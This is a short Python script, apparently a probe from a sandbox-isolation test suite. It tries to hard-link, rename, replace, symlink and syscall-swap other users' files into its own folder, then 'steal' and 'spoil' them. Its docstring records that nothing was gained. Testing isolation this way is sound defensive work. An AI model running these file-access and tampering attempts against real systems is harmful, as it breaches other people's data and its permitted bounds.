"""Link others' files into its folder, and swap them with its own.

gains: nothing
score: 20
outcome: completed
"""

import ctypes
import os

from kit import TARGETS, attempt, drive, gained, spoil, steal, syscall

for number, path in enumerate(TARGETS.get("files", ())):
    for name, make in (("link", os.link), ("rename", os.rename), ("replace", os.replace)):
        with attempt():
            make(path, f"{name}-{number}")
            gained(f"reads files that are not its own: {name}")
    with attempt():
        own = os.path.abspath(f"own-{number}")
        open(own, "w").close()
        exchange = (-100, own.encode(), -100, path.encode(), ctypes.c_uint(2))
        if syscall(316, *exchange) == 0:
            gained("changes files of others: swapped")
    with attempt():
        os.symlink(path, f"soft-{number}")
        steal(f"soft-{number}")
        spoil(f"soft-{number}")
drive()
